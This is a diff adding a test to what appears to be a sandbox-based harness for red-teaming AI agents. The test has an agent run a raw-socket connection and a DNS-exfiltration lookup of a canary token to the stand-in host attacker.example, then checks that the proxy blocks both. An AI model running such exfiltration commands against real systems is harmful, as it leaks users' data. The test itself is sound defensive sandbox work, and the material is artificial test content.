@@ -175,6 +175,36 @@ describe('network: proxy (bubblewrap)', { skip }, () => {
     }
   });
 
+  it('records what ignores the proxy as blocked by the names it looks up; nothing of it leaves', async () => {
+    // A raw socket (Node's net.connect, as Node 20's fetch would) and a DNS exfiltration: both need a
+    // name resolved first, which the sandbox's resolv.conf sends to Witness's resolver.
+    const result = await run({
+      target: agent(
+        [
+          'cat /etc/resolv.conf',
+          `node -e "const s = require('net').connect(80, 'attacker.example'); ` +
+            `s.on('connect', () => console.log('connected')); s.on('error', (e) => console.log('raw', e.code))"`,
+          `node -e "require('dns').lookup('${CANARY}.attacker.example', (e) => console.log('dns', e && e.code))"`,
+        ].join('; '),
+      ),
+      attacks: [exfiltration],
+    });
+    const [record] = result.attempts;
+    assert.match(record?.reply ?? '', /nameserver 127\.0\.0\.1/);
+    assert.match(record?.reply ?? '', /raw ENOTFOUND/);
+    assert.doesNotMatch(record?.reply ?? '', /connected/);
+    assert.deepEqual(
+      record?.network?.blocked?.map((entry) => [entry.via, entry.host, entry.port]),
+      [
+        ['name_lookup', 'attacker.example', null],
+        ['name_lookup', `${CANARY}.attacker.example`, null],
+      ],
+    );
+    // Nothing left the sandbox: the condition is decided false on complete evidence.
+    assert.deepEqual(record?.network?.requests, []);
+    assert.equal(record?.outcome, 'failure', record?.score?.rationale ?? record?.error ?? '');
+  });
+
   it('leaves the same condition undetermined under network: host (network_unobserved)', async () => {
     const result = await run({
       network: 'host',
